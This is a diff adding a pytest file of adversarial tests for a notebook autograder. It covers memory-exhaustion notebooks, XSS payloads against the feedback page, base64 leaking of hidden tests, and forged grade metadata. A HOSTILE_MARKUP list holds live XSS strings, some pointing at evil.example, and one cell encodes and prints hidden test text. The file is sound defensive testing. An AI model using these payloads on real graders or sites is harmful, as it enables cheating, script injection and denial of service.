@@ -1,0 +1,269 @@
+"""A hostile reviewer's attacks on the grader, each kept as a fixture asserting the SAFE behaviour.
+
+The kit promises that a student cannot fake a grade, read what the grader keeps private, or
+crash it or leave something behind, and that an odd but honest notebook still gets a fair grade.
+Each test here is one attack a student could make, written for the toy assignment
+(``tests/toy_assignment.py``) so that it runs in seconds. An attack that still works is marked
+``xfail(strict=True, reason="HOLE: ...")``: the suite stays green, the hole stays visible, and
+whoever fixes it removes the mark (strict: the test then passes and the mark must go).
+"""
+
+from __future__ import annotations
+
+import ctypes
+import html
+import json
+import os
+import re
+import stat
+import tempfile
+import time
+import tracemalloc
+import uuid
+from pathlib import Path
+
+import nbformat
+import pytest
+import toy_assignment as toy
+
+from autograder import pipeline
+from autograder.config import load_assignment
+from autograder.feedback import feedback_notebook, render_page
+from autograder.intake import read_submission
+
+SOLVED = {"q1": "def add(a, b):\n    return a + b", "q2": "def scale(x, k):\n    return x * k"}
+TEST_IDS = {"q1_tests", "q2_tests"}
+
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="the kernel user exists only as root")
+
+
+@pytest.fixture(scope="module")
+def kit(tmp_path_factory):
+    """The toy assignment, built once for the module."""
+    root = toy.make_root(tmp_path_factory.mktemp("kit"))
+    os.environ["KIT_BUNDLE_DIR"] = str(root / "bundles")
+    assignment = load_assignment(toy.NAME, root)
+    pipeline.build(assignment, device="cpu")
+    yield assignment
+    os.environ.pop("KIT_BUNDLE_DIR", None)
+
+
+def by_name(results: dict) -> dict[str, dict]:
+    return {t["name"]: t for t in results["tests"]}
+
+
+def with_cells(path: Path, *codes: str, metadata: dict | None = None) -> Path:
+    """Append code cells (student cells: no nbgrader metadata unless given) to a notebook."""
+    nb = nbformat.read(path, as_version=4)
+    for code in codes:
+        nb.cells.append(nbformat.v4.new_code_cell(code, metadata=dict(metadata or {})))
+    nbformat.write(nb, path)
+    return path
+
+
+def permissions_only(monkeypatch) -> None:
+    """Grade as a container without CAP_SYS_ADMIN would: no namespaces, file permissions only."""
+    from autograder import sandbox
+
+    monkeypatch.setattr(sandbox, "probe_namespaces", lambda: (False, "refused in this test"))
+
+
+# ------------------------------------------------------------------- crash the grader (intake)
+def _notebook_with_tiny_objects(path: Path, megabytes: float) -> Path:
+    """A notebook whose first answer cell has ``megabytes`` MB of outputs written as ``{},{},..``:
+    valid JSON, shallow, few cells, far under the size cap, but one Python dict per 3 bytes."""
+    toy.student(path, **SOLVED)
+    nb = json.loads(path.read_text())
+    nb["cells"][3]["outputs"] = "@@"
+    count = int(megabytes * 2**20 / 3)
+    path.write_text(json.dumps(nb).replace('"@@"', "[" + "{}," * (count - 1) + "{}]"))
+    return path
+
+
+def _intake_peak_mb(path: Path) -> tuple[float, list[str]]:
+    tracemalloc.start()
+    try:
+        intake = read_submission(path, "toy.ipynb", TEST_IDS)
+        return tracemalloc.get_traced_memory()[1] / 2**20, intake.notes
+    finally:
+        tracemalloc.stop()
+
+
+def test_an_honest_notebook_with_many_outputs_is_read_within_bounded_memory(tmp_path):
+    """The control for the next test: 2 MB of printed training logs (26,000 stream outputs)
+    are read, and intake's peak stays under 160 MB (about 100 MB of it is a fixed cost)."""
+    path = toy.student(tmp_path / "toy.ipynb", **SOLVED)
+    nb = nbformat.read(path, as_version=4)
+    nb.cells[3].outputs = [
+        nbformat.v4.new_output("stream", name="stdout", text=f"epoch {i} loss 0.{i:06d}\n")
+        for i in range(26_000)
+    ]
+    nbformat.write(nb, path)
+    peak_mb, notes = _intake_peak_mb(path)
+    assert notes == []
+    assert peak_mb < 160, f"intake peaked at {peak_mb:.0f} MB"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: intake.py _read parses any notebook under 100 MB with json.loads and "
+    "nbformat.from_dict; '{},' costs ~170 bytes of grader memory per byte of JSON (95 MB: "
+    "16 GB, 129 s), so the grader is OOM-killed and writes no results.json",
+)
+def test_a_notebook_of_two_million_empty_objects_is_refused_before_parsing(tmp_path):
+    """Crash the grader with memory: 2 MB of ``{},`` in one cell's outputs (the same file at 95 MB
+    took 16 GB of grader memory and 129 s, measured). Safe: refused with a note before parsing,
+    or read within the same bound as an honest notebook of that size."""
+    path = _notebook_with_tiny_objects(tmp_path / "toy.ipynb", 2)
+    peak_mb, notes = _intake_peak_mb(path)
+    assert notes or peak_mb < 160, f"intake peaked at {peak_mb:.0f} MB and refused nothing"
+
+
+# --------------------------------------------------------------------------------- feedback
+#: Markup a student's outputs could carry into the feedback page; none may stay live.
+HOSTILE_MARKUP = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    '<a href="javascript:alert(1)">j</a>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<iframe src="https://evil.example"></iframe>',
+    '<form action="https://evil.example"><input name=p></form>',
+    '<base href="https://evil.example/">',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    "<svg onload=alert(1)>",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "<style>body{background:url(https://evil.example/bg)}</style>",
+    '<div style="background:url(https://evil.example/s)">s</div>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<details open ontoggle=alert(1)>x</details>",
+]
+LIVE_TAGS = {"script", "iframe", "form", "base", "link", "svg", "math", "style", "object",
+             "embed", "meta", "input", "details", "noscript"}  # fmt: skip
+
+
+def live_markup(page_body: str) -> list[str]:
+    """Tags and attributes that a browser would act on, found by parsing (not by regex, so an
+    escaped attribute value like ``title="&lt;img onerror=..."`` is correctly seen as text)."""
+    from html.parser import HTMLParser
+
+    found: list[str] = []
+
+    class Finder(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            if tag in LIVE_TAGS:
+                found.append(f"<{tag}>")
+            for name, value in attrs:
+                value = (value or "").strip().lower()
+                if name.startswith("on"):
+                    found.append(f"<{tag} {name}=...>")
+                if name in ("href", "src", "xlink:href") and value.startswith("javascript:"):
+                    found.append(f"<{tag} {name}=javascript:...>")
+                inline_image = re.match(r"data:image/(png|jpeg|gif);", value)
+                if tag == "img" and name == "src" and not inline_image:
+                    found.append(f"<img src={value[:40]}>")
+
+    Finder().feed(page_body)
+    return found
+
+
+def test_hostile_markup_in_every_place_of_an_executed_notebook_is_inert():
+    """XSS through the feedback page: markup in markdown and raw cells, HTML/markdown outputs,
+    error names and tracebacks, stream names, image data and size metadata, JS/widget outputs.
+    Safe: the page's body has no live tag, handler or script URL after the CSP line."""
+    markup = "\n".join(HOSTILE_MARKUP)
+    outputs = [
+        {"output_type": "display_data", "metadata": {},
+         "data": {"text/html": markup, "text/markdown": markup}},
+        {"output_type": "execute_result", "execution_count": 1, "data": {"text/html": [markup]},
+         "metadata": {"text/html": {"isolated": False}}},
+        {"output_type": "error", "ename": "<script>alert(1)</script>", "evalue": markup,
+         "traceback": ["\x1b[31m" + markup]},
+        {"output_type": "stream", "name": "<script>", "text": markup},
+        {"output_type": "display_data", "data": {"image/png": 'iVBORw0KGgo=" onerror="alert(1)'},
+         "metadata": {"image/png": {"width": "1 onerror=alert(1)"}}},
+        {"output_type": "display_data", "metadata": {},
+         "data": {"application/javascript": "alert(1)",
+                  "application/vnd.jupyter.widget-view+json": {"model_id": "x"}}},
+    ]  # fmt: skip
+    cells = [
+        {"cell_type": "markdown", "metadata": {},
+         "source": markup + "\n\n[l](javascript:alert(1))\n\n![t](https://evil.example/t.png)"},
+        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": markup},
+        {"cell_type": "code", "source": "x", "execution_count": 1, "metadata": {},
+         "outputs": outputs},
+    ]  # fmt: skip
+    nb = {"cells": cells, "metadata": {"title": "<script>alert(1)</script>"}}
+    page = render_page(feedback_notebook(nb, {}, set()))
+    body = page[page.index("<body") :]
+    assert len(live_markup("<p><img src=x onerror=alert(1)></p>")) == 2  # the finder works
+    assert live_markup(body) == []
+
+
+@needs_root
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE (low; cannot be closed inside the kernel): the kernel must receive the hidden "
+    "test's text, so student code can print it encoded (base64) and autograder/redact.py only "
+    "removes verbatim lines. Fix: reword README/DESIGN 'Feedback never shows hidden test source' "
+    "to 'never shows it verbatim; hidden tests hold no secret', or show no outputs of cells run "
+    "after the first hidden test",
+)
+def test_hidden_test_source_encoded_by_student_code_stays_off_the_feedback_page(kit, tmp_path):
+    """Leak the hidden tests: a last cell prints ``In`` base64-encoded. Safe: the page shows no
+    encoding of the hidden lines."""
+    import base64
+
+    leak = "import base64\nprint('LEAK', base64.b64encode('\\n'.join(In).encode()).decode())"
+    path = with_cells(toy.student(tmp_path / "toy.ipynb", **SOLVED), leak)
+    graded = pipeline.grade(kit, path, device="cpu", feedback_dir=tmp_path / "fb")
+    assert graded.results["score"] == 5
+    page = graded.feedback[0].read_text()
+    decoded = " ".join(
+        base64.b64decode(m).decode("utf-8", "replace")
+        for m in re.findall(r"LEAK ([A-Za-z0-9+/=]+)", page)
+    )
+    assert "grading_input" not in decoded
+
+
+# ------------------------------------------------------------------------- unearned points
+@needs_root
+def test_an_extra_cell_claiming_to_be_a_graded_test_earns_nothing(kit, tmp_path):
+    """A student adds a cell with nbgrader metadata ``grade: true, points: 100``. Safe: it is
+    not a test of the results, and the total stays the assignment's 5 points."""
+    bonus = {"nbgrader": {"grade_id": "bonus", "grade": True, "points": 100, "solution": False,
+                          "locked": True, "schema_version": 3}}  # fmt: skip
+    path = with_cells(toy.student(tmp_path / "toy.ipynb", **SOLVED), "x = 1", metadata=bonus)
+    results = pipeline.grade(kit, path, device="cpu").results
+    assert set(by_name(results)) == TEST_IDS
+    assert sum(t["max_score"] for t in results["tests"]) == 5
+    assert results["score"] == 5
+
+
+# ------------------------------------------------------------------ odd but honest notebooks
+@needs_root
+def test_an_odd_but_honest_notebook_gets_full_marks(kit, tmp_path):
+    """nbformat 4.0 without cell ids, the answer written in an extra cell above the test (the
+    stub left in place), warnings and stderr output, helpers under other names, a plot, and a
+    slow but correct answer (6 s of a 20 s cell limit). Safe: full marks."""
+    slow_add = (
+        "import sys, time, warnings\nwarnings.warn('an old API')\n"
+        "print('noise ' * 1000, file=sys.stderr)\n"
+        "def _plus(u, v):\n    return u + v\n"
+        "def add(a, b):\n    time.sleep(3)\n    return _plus(a, b)\n"
+    )
+    path = toy.student(tmp_path / "toy.ipynb", q2=SOLVED["q2"])
+    nb = json.loads(path.read_text())
+    nb["nbformat_minor"] = 0
+    for cell in nb["cells"]:
+        cell.pop("id", None)
+    test_at = next(
+        i for i, c in enumerate(nb["cells"])
+        if c["metadata"].get("nbgrader", {}).get("grade_id") == "q1_tests"
+    )  # fmt: skip
+    extra = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": []}
+    nb["cells"].insert(test_at, {**extra, "source": slow_add})
+    nb["cells"].append({**extra, "source": "import matplotlib.pyplot as plt\nplt.plot([1, 2])"})
+    path.write_text(json.dumps(nb))
+    results = pipeline.grade(kit, path, device="cpu").results
+    assert results["score"] == 5, by_name(results)
